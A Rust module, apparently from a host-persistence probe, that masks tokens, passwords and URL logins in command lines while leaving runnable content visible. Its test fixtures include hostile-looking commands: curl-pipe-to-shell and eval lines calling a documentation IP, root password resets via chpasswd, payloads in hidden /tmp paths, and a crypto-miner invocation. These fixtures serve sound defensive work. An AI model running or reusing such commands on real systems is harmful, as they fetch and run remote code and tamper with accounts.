//! Lines without the values that look like secrets.
//!
//! Invariant: what could run stays: what a value is made of by a command, paths, addresses of pages, and a text of more than
//! plain words. So nothing is hidden by the name that somebody gives it. Time grows as the text does, whatever it says.

mod login;

use login::{without_login, without_user};

const HIDDEN: &[u8] = b"***";
/// Longer words are no addresses with a login.
const LONGEST_LOGIN: usize = 2 << 10;
/// In the names of what nobody else is to know.
const SECRETS: [&str; 9] = [
    "TOKEN",
    "PASSWORD",
    "PASSWD",
    "PASSPHRASE",
    "SECRET",
    "CREDENTIAL",
    "APIKEY",
    "AUTHKEY",
    "ACCESSKEY",
];

pub(super) fn has(text: &[u8], name: &str) -> bool {
    text.to_ascii_uppercase().windows(name.len()).any(|it| it == name.as_bytes())
}

/// `root:x` of a list of passwords.
pub(super) fn of_list(line: &[u8]) -> Vec<u8> {
    let name = line.split(|byte| *byte == b':').next().unwrap_or_default();
    let plain = |byte: &u8| byte.is_ascii_alphanumeric() || b"_-.$".contains(byte);
    let is_one = name.len() < line.len() && name.iter().all(plain);
    if is_one { [name, b":", HIDDEN].concat() } else { line.to_vec() }
}

/// Each line of a text without the values that look like secrets.
pub(in crate::host::probe::persistence) fn masked(text: &[u8]) -> Vec<u8> {
    let lines = text.split(|byte| *byte == b'\n').map(|line| without_user(&of_line(line)));
    lines.collect::<Vec<_>>().join(&b'\n')
}

/// As much of a text as is kept, to be masked. A word that the end would cut is left out if that can be, as half of an
/// address may not show that there is a login in it.
pub(in crate::host::probe::persistence) fn beginning(text: &[u8], most: usize) -> &[u8] {
    let Some(kept) = text.get(..most).filter(|it| it.len() < text.len()) else { return text };
    let end = kept.iter().rposition(u8::is_ascii_whitespace);
    end.filter(|at| at + LONGEST_LOGIN > most).and_then(|at| kept.get(..at)).unwrap_or(kept)
}

fn of_line(line: &[u8]) -> Vec<u8> {
    let sets = has(line, "CHPASSWD") || has(line, "PASSWD --STDIN");
    let hashes = sets || has(line, "USERADD") || has(line, "USERMOD") || has(line, "SSHPASS");
    let (mut shown, mut next_is_secret) = (Vec::with_capacity(line.len()), false);
    // What a command says in quotes stays.
    let makes = line.contains(&b'`') || line.windows(2).any(|it| it == b"$(");
    let (mut quoted, mut assigned): (Option<u8>, bool) = (None, false);
    // `"token": "…"`
    let mut named = false;
    for word in pieces(line) {
        let ends = |it: &&u8| it.is_ascii_whitespace() || b"\"'[](),;|&".contains(*it);
        if word.first().as_ref().is_some_and(ends) {
            named &= closes(word);
            shown.extend_from_slice(word);
            if quoted.is_some_and(|quote| word.contains(&quote)) {
                quoted = None;
            } else if next_is_secret {
                let begin = word.as_ptr().addr() - line.as_ptr().addr() + word.len();
                let quote = word.last().copied().filter(|it| is_quote(*it));
                next_is_secret = stands_behind(word, assigned)
                    && !runs_in_quotes(quote, line.get(begin..).unwrap_or_default());
                quoted = quote.filter(|_| next_is_secret && !makes);
            }
            continue;
        }
        if quoted.is_some() {
            next_is_secret = false;
            shown.extend_from_slice(hidden(word));
            continue;
        }
        if std::mem::take(&mut named) && bare(word) == b":" {
            (next_is_secret, assigned) = (true, false);
            shown.extend_from_slice(word);
            continue;
        }
        if std::mem::take(&mut next_is_secret) && !is_made(word) && !runs(word) {
            if goes_on(word) {
                next_is_secret = true;
                shown.extend_from_slice(word);
            } else {
                shown.extend_from_slice(HIDDEN);
            }
            continue;
        }
        let cut = word.iter().position(|it| matches!(it, b'=' | b':'));
        let (name, value) = word.split_at(cut.map_or(word.len(), |at| at + 1));
        let secret = is_secret(name);
        let option = name.starts_with(b"-");
        let is_page = value.starts_with(b"//");
        if secret && !value.is_empty() && !is_page {
            shown.extend_from_slice(name);
            let stays = is_made(value) || runs(value);
            shown.extend(if stays { without_login(value) } else { HIDDEN.to_vec() });
        } else if sets && name.ends_with(b":") && !is_page && !value.is_empty() {
            shown.extend_from_slice(&of_list(word));
        } else {
            named = secret && cut.is_none() && shown.last().is_some_and(|it| is_quote(*it));
            assigned = name.ends_with(b"=");
            next_is_secret = secret && (option || cut.is_some()) || hashes && word == b"-p";
            shown.extend_from_slice(&without_login(word));
        }
    }
    shown
}

/// What is behind this gap belongs to what stands before it: `x= y` runs `y`, and so does `x="" y`.
fn stands_behind(gap: &[u8], assigned: bool) -> bool {
    let marks = gap.iter().filter(|it| is_quote(**it)).count();
    let ends = gap.iter().any(|it| matches!(it, b'(' | b')' | b';' | b'|' | b'&'));
    !ends && marks < 2 && (!assigned || gap.len() == marks)
}

/// What stands in these quotes may run.
fn runs_in_quotes(quote: Option<u8>, behind: &[u8]) -> bool {
    let Some(quote) = quote else { return false };
    let inside = behind.split(|byte| *byte == quote).next().unwrap_or_default();
    #[cfg(test)]
    tests::looked_at(inside);
    // A quote in a text in quotes has a backslash before it.
    runs(inside.strip_suffix(b"\\").unwrap_or(inside))
}

const fn is_quote(byte: u8) -> bool {
    matches!(byte, b'"' | b'\'')
}

/// What stands for a word in quotes; what makes the quote behind it a part of the text stays.
fn hidden(word: &[u8]) -> &'static [u8] {
    if word.ends_with(b"\\") { b"***\\" } else { HIDDEN }
}

/// Nothing but a quote, and blanks.
fn closes(gap: &[u8]) -> bool {
    gap.iter().any(|it| is_quote(*it))
        && gap.iter().all(|it| is_quote(*it) || it.is_ascii_whitespace())
}

/// `Authorization: Bearer x`: the secret is still to come.
fn goes_on(word: &[u8]) -> bool {
    matches!(word, b"Bearer" | b"Basic" | b"bearer" | b"basic" | b"=" | b":")
        || bare(word).is_empty()
}

/// Without what makes a quote behind it a part of the text.
fn bare(word: &[u8]) -> &[u8] {
    let at = word.iter().position(|it| *it == b'\\').unwrap_or(word.len());
    word.get(..at).unwrap_or(word)
}

/// It is what a command says, or a variable.
fn is_made(value: &[u8]) -> bool {
    let hash = value.get(1).is_some_and(u8::is_ascii_digit);
    value.starts_with(b"$") && !hash || value.contains(&b'`')
}

/// It is a path, a page, or a text of more than plain words: the line may run it.
fn runs(value: &[u8]) -> bool {
    does(value) || is_text(value) && !is_scheme(value)
}

/// It is a path or a page, or joins commands.
fn does(value: &[u8]) -> bool {
    #[cfg(test)]
    tests::looked_at(value);
    let first = value.split(|byte| *byte == b'/').next().unwrap_or_default();
    let is_path = value.len() > first.len()
        && (first.is_empty() || first == b"~" || first.contains(&b'.') || first.contains(&b':'));
    is_path || value.iter().any(|byte| matches!(byte, b'|' | b';' | b'&' | b'<' | b'>'))
}

/// It is more than plain words.
fn is_text(value: &[u8]) -> bool {
    let plain = |byte: &u8| byte.is_ascii_alphanumeric() || byte.is_ascii_whitespace();
    value.iter().any(u8::is_ascii_whitespace) && !value.iter().all(plain)
}

/// `Bearer x`
fn is_scheme(value: &[u8]) -> bool {
    let mut words = value.trim_ascii().splitn(2, u8::is_ascii_whitespace);
    let names: [&[u8]; 2] = [b"bearer", b"basic"];
    let is_named =
        words.next().is_some_and(|it| names.iter().any(|name| it.eq_ignore_ascii_case(name)));
    is_named && words.next().is_some_and(|it| !does(it) && !is_text(it))
}

fn is_secret(name: &[u8]) -> bool {
    let letters = name.iter().filter(|it| it.is_ascii_alphanumeric());
    let plain: Vec<u8> = letters.map(u8::to_ascii_uppercase).collect();
    let mut parts = name.rsplit(|it| !it.is_ascii_alphanumeric()).filter(|it| !it.is_empty());
    let is_pass = parts.next().is_some_and(|it| it.eq_ignore_ascii_case(b"PASS"));
    is_pass || plain == b"AUTHORIZATION" || SECRETS.iter().any(|it| has(&plain, it))
}

/// Words, and what stands between them.
fn pieces(line: &[u8]) -> impl Iterator<Item = &[u8]> {
    let parts = |it: &u8| it.is_ascii_whitespace() || b"\"'[](),;|&".contains(it);
    line.chunk_by(move |one, other| parts(one) == parts(other))
}

#[cfg(test)]
mod tests {
    use std::cell::Cell;

    use super::*;
    use proptest::prelude::*;

    thread_local! {
        /// Bytes that were looked at beyond the word that is read.
        static LOOKED: Cell<usize> = const { Cell::new(0) };
    }

    pub(super) fn looked_at(bytes: &[u8]) {
        LOOKED.set(LOOKED.get() + bytes.len());
    }

    fn looks(line: &[u8]) -> usize {
        LOOKED.set(0);
        masked(line);
        LOOKED.get()
    }

    #[test]
    fn a_long_line_costs_what_its_length_does() {
        for part in [
            " --token a",
            " --token \"a' $(",
            " --token '\"",
            "--token \"bearer bearer ",
            " bearer \"",
        ] {
            let line = part.repeat(9_000);
            assert!(looks(line.as_bytes()) <= 4 * line.len(), "{part}");
        }
        let line = format!("--token \"{}x-y\"", "bearer ".repeat(60_000));
        assert!(looks(line.as_bytes()) <= 4 * line.len());
    }

    #[test]
    fn what_is_cut_ends_with_a_whole_word_if_one_ends_near() {
        assert_eq!(beginning(b"a b", 3), b"a b");
        assert_eq!(beginning(b"curl http://u:pw@h.example", 16), b"curl");
        let long = [b"a ", "b".repeat(LONGEST_LOGIN + 9).as_bytes()].concat();
        assert_eq!(beginning(&long, LONGEST_LOGIN + 4).len(), LONGEST_LOGIN + 4);
    }

    #[test]
    fn what_looks_like_a_secret_is_not_kept_and_what_runs_is() {
        for (line, shown) in [
            (
                "curl -sfL https://get.k3s.example | K3S_TOKEN=abc sh -",
                "curl -sfL https://get.k3s.example | K3S_TOKEN=*** sh -",
            ),
            ("export DB_PASSWORD='a b'", "export DB_PASSWORD='*** ***'"),
            (
                "API_TOKEN= curl http://198.51.100.7/x | sh",
                "API_TOKEN= curl http://198.51.100.7/x | sh",
            ),
            (
                "API_TOKEN=\"\" curl http://198.51.100.7/x | sh",
                "API_TOKEN=\"\" curl http://198.51.100.7/x | sh",
            ),
            ("API_TOKEN='a b' /run/me c", "API_TOKEN='*** ***' /run/me c"),
            ("up --auth-key tskey-1 --ssh", "up --auth-key *** --ssh"),
            ("up --authkey=tskey-1", "up --authkey=***"),
            ("echo root:x1 | chpasswd", "echo root:*** | chpasswd"),
            (
                "[ sh, -c, \"echo 'a:x1' | chpasswd -e\" ]",
                "[ sh, -c, \"echo 'a:***' | chpasswd -e\" ]",
            ),
            ("useradd -p x1 -m a", "useradd -p *** -m a"),
            ("password: x1", "password: ***"),
            (
                "curl -H 'Authorization: Bearer x1' https://a.example/b",
                "curl -H 'Authorization: Bearer ***' https://a.example/b",
            ),
        ] {
            assert_eq!(String::from_utf8_lossy(&masked(line.as_bytes())), shown);
        }
    }

    #[test]
    fn what_may_run_is_kept_and_who_signs_in_is_not() {
        for (line, shown) in [
            (
                "A_TOKEN='curl -s http://198.51.100.7/a4|sh'; eval $A_TOKEN",
                "A_TOKEN='curl -s http://198.51.100.7/a4|sh'; eval $A_TOKEN",
            ),
            ("P_TOKEN=\"/tmp/.x/f5\"; $P_TOKEN", "P_TOKEN=\"/tmp/.x/f5\"; $P_TOKEN"),
            ("P_TOKEN=/tmp/.x/f5; $P_TOKEN", "P_TOKEN=/tmp/.x/f5; $P_TOKEN"),
            ("useradd x; bash -p /tmp/.x/f8", "useradd x; bash -p /tmp/.x/f8"),
            (
                "curl -sH Authorization: http://198.51.100.7/a5 | sh",
                "curl -sH Authorization: http://198.51.100.7/a5 | sh",
            ),
            (
                "curl -sH Authorization: 198.51.100.7/a5 | sh",
                "curl -sH Authorization: 198.51.100.7/a5 | sh",
            ),
            ("useradd -p $6$x1$y m", "useradd -p *** m"),
            ("A_TOKEN=ab/cd+x1==", "A_TOKEN=***"),
            ("git clone https://a:x1@b.example/c", "git clone https://a:***@b.example/c"),
            ("HTTP_PROXY=http://a:x1@b.example:3128", "HTTP_PROXY=http://a:***@b.example:3128"),
            ("DB_URL=postgres://a:x1@b.example/c", "DB_URL=postgres://a:***@b.example/c"),
            ("A_TOKEN=https://a:x1@b.example/c", "A_TOKEN=https://a:***@b.example/c"),
            ("API_PASS=x1 BYPASS=y1", "API_PASS=*** BYPASS=y1"),
            ("curl -su a:x1 b.example | ./x -u c:d", "curl -su a:*** b.example | ./x -u c:d"),
            ("curl --user='a:x1;y1' b.example", "curl --user='a:***;***' b.example"),
            ("curl -u a:/tmp/.x/f5 b", "curl -u a:/tmp/.x/f5 b"),
            ("TOKEN=$(curl http://198.51.100.7/x) sh", "TOKEN=$(curl http://198.51.100.7/x) sh"),
            (
                "./x -o stratum+tcp://a.example:1 -u b.c -p x",
                "./x -o stratum+tcp://a.example:1 -u b.c -p x",
            ),
        ] {
            assert_eq!(String::from_utf8_lossy(&masked(line.as_bytes())), shown);
        }
    }

    #[test]
    fn what_looks_like_a_secret_in_json_is_not_kept() {
        for (line, shown) in [
            (
                r#"echo '{"api_token":"x1","port":8080}' > /etc/a.json"#,
                r#"echo '{"api_token":"***","port":8080}' > /etc/a.json"#,
            ),
            (
                r#"echo "{\"password\": \"x1 y2\", \"run\": \"/opt/a\"}" > /etc/a"#,
                r#"echo "{\"password\": \"*** ***\", \"run\": \"/opt/a\"}" > /etc/a"#,
            ),
            (r#"curl -d '{"secret" : 17}' b.example"#, r#"curl -d '{"secret" : ***' b.example"#),
            ("echo \"token\" > /etc/a", "echo \"token\" > /etc/a"),
        ] {
            assert_eq!(String::from_utf8_lossy(&masked(line.as_bytes())), shown);
        }
    }

    proptest! {
        #[test]
        fn no_line_costs_more_than_its_length(parts in prop::collection::vec(prop::sample::select(vec![
            " ", "--token ", "token=", "'", "\"", "bearer ", "a", "$(", "`", "/", ":", ";", "\\", "passwd --stdin ",
        ]), 0..400)) {
            let line = parts.concat();
            prop_assert!(looks(line.as_bytes()) <= 6 * line.len());
        }

        #[test]
        fn any_line_is_taken(line in prop::collection::vec(any::<u8>(), 0..80)) {
            prop_assert!(masked(&line).len() <= 3 * line.len());
        }

        #[test]
        fn no_value_behind_such_a_name_is_kept(name in "[A-Z]{0,5}_?(TOKEN|PASSWORD|SECRET)", value in "[a-z0-9=@%.]{2,9}[a-z0-9:=@%.]{3,11}", quote in "['\"]?") {
            let line = format!("run {name}={quote}{value}{quote} -x");
            let shown = String::from_utf8_lossy(&masked(line.as_bytes())).into_owned();
            prop_assert!(!shown.contains(&value), "{}", shown);
        }

        #[test]
        fn no_value_of_such_a_name_in_json_is_kept(
            name in "[a-z]{0,5}_?(token|Password|secret)", value in "[a-z0-9=@%]{2,9}[a-z0-9:=@%.]{3,11}",
            gap in " ?", outer in "['\"]",
        ) {
            let quote = if outer == "\"" { "\\\"" } else { "\"" };
            let line = format!("run {outer}{{{quote}{name}{quote}{gap}:{gap}{quote}{value}{quote}}}{outer}");
            let shown = String::from_utf8_lossy(&masked(line.as_bytes())).into_owned();
            prop_assert!(!shown.contains(&value), "{}", shown);
        }
    }
}
